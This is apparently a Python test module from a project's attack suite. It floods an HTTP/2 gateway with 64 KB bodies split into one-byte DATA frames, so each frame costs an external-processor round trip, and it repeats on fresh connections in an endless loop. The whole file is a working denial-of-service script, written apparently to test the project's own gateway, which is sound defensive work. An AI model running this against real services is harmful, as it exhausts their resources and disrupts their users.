"""A client whose body of 64 KB comes in DATA frames of one byte: each is a message to the picker and one back."""

import asyncio

from extproc.http2 import frames as http2
from tests.attack.http2_client import raw_client
from tests.attack.target import Target

BODY_BYTES = 64_000
FRAMES_AT_ONCE = 2_000


async def attack(target: Target) -> None:
    """Send one body after another, on a connection each."""
    host, port = target.gateway_address()
    while True:
        async with raw_client(host, port) as client:
            stream, head = client.open(target.gateway, content_type=b"application/json")
            await client.send(head)
            one = http2.frame(http2.DATA, 0, stream, b" ")
            try:
                for _ in range(BODY_BYTES // FRAMES_AT_ONCE):
                    await client.send(one * FRAMES_AT_ONCE)
                await client.send(http2.frame(http2.DATA, http2.END_STREAM, stream, b"x"))
                await asyncio.sleep(0.1)
            except ConnectionError:
                pass
        target.done += 1
